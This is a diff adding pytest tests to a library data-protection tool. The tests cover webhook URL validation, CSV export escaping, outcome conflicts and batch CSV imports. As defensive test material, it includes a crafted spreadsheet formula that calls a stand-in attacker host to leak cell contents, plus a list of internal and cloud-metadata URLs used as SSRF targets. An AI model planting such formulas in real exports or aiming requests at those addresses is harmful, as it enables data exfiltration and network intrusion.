@@ -364,3 +364,79 @@ def test_the_work_list_escapes_what_a_library_system_sent_as_an_id() -> None:
 @pytest.mark.parametrize("args", [["--state", "finished"], ["--format", "xml"], ["--lang", "de"]])
 def test_kodex_instructions_list_refuses_a_wrong_option_with_exit_2(night: Workspace, args: list[str]) -> None:
     assert kodex("instructions", "list", "--library", "kntb", *args).exit_code == 2
+
+
+# -- what a library's admin, a crafted id and a second answer cannot do -------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://ils.example.org/kodex",  # cleartext: the instruction names the reader by the library system's id
+        "https://127.0.0.1/kodex",
+        "https://10.1.2.3/kodex",
+        "https://169.254.169.254/latest/meta-data",
+        "https://[::1]/kodex",
+        "https://localhost/kodex",
+    ],
+)
+def test_a_librarys_admin_cannot_point_the_webhook_into_the_servers_network(
+    night: Workspace, api: TestClient, url: str
+) -> None:
+    answer = api.put("/v1/libraries/kntb/webhook", json={"url": url}, headers=token(night, "library_admin"))
+    assert answer.status_code == 422, answer.text
+    assert "kodex webhooks set" in answer.text  # it says who may set such an endpoint
+
+
+def test_the_servers_command_line_may_set_an_endpoint_on_the_librarys_own_network(night: Workspace) -> None:
+    result = ok("webhooks", "set", "--library", "zdirec", "--url", "http://10.1.2.3/kodex")
+    assert result.stdout.strip().startswith("whsec_")
+
+
+def test_a_work_list_csv_never_hands_a_spreadsheet_a_formula_from_a_library_systems_id() -> None:
+    crafted = Instruction(
+        "i-2", 2, "kntb", "anonymise", "reader", '=HYPERLINK("http://evil.example/?"&A1,"open")', "d-2",
+        "kntb.rule", "4.4", "remove", datetime.now(UTC), date(2026, 1, 1), "pending", False, 0, None, None, None,
+    )  # fmt: skip
+    from kodex.api import instruction_commands  # noqa: PLC0415
+
+    buffer = io.StringIO()
+    stdout, instruction_commands.sys.stdout = instruction_commands.sys.stdout, buffer  # type: ignore[attr-defined]
+    try:
+        instruction_commands._csv([crafted], "cs")
+    finally:
+        instruction_commands.sys.stdout = stdout  # type: ignore[attr-defined]
+    row = next(csv.DictReader(io.StringIO(buffer.getvalue())))
+    assert row["subject_id"].startswith("'=")
+
+
+def test_a_rejection_given_again_with_another_code_is_409(night: Workspace, api: TestClient) -> None:
+    instruction = all_of(api, night, "kntb")[3]
+    assert _outcome(api, night, instruction, {"outcome": "rejected", "code": "has_debt"}).status_code == 200
+    assert _outcome(api, night, instruction, {"outcome": "rejected", "code": "has_checkouts"}).status_code == 409
+
+
+def test_an_outcome_the_dpo_records_is_recorded_as_the_dpos(night: Workspace, api: TestClient) -> None:
+    instruction = all_of(api, night, "kntb")[4]
+    answer = api.post(
+        f"/v1/libraries/kntb/instructions/{instruction['id']}/outcome", json={"outcome": "done"},
+        headers=token(night, "dpo"),
+    )  # fmt: skip
+    assert answer.status_code == 200
+    with night.engine.connect() as connection:
+        by = connection.execute(select(instructions.c.outcome_by).where(instructions.c.id == instruction["id"]))
+        assert by.scalar_one() == "dpo"
+
+
+def test_a_csv_naming_a_final_instruction_otherwise_records_none_of_its_rows(
+    night: Workspace, api: TestClient, tmp_path: Path
+) -> None:
+    mine = all_of(api, night, "zdirec")[5:7]
+    ok("instructions", "outcome", mine[1]["id"], "--library", "zdirec", "--outcome", "done")
+    filled = tmp_path / "mixed.csv"
+    filled.write_text(f"id,outcome\n{mine[0]['id']},done\n{mine[1]['id']},rejected\n", encoding="utf-8")
+    result = kodex("instructions", "outcome", "--library", "zdirec", "--csv", str(filled))
+    assert result.exit_code == 12
+    assert "Nothing was recorded" in result.output
+    states = {i["id"]: i["state"] for i in all_of(api, night, "zdirec")}
+    assert states[mine[0]["id"]] == "pending"
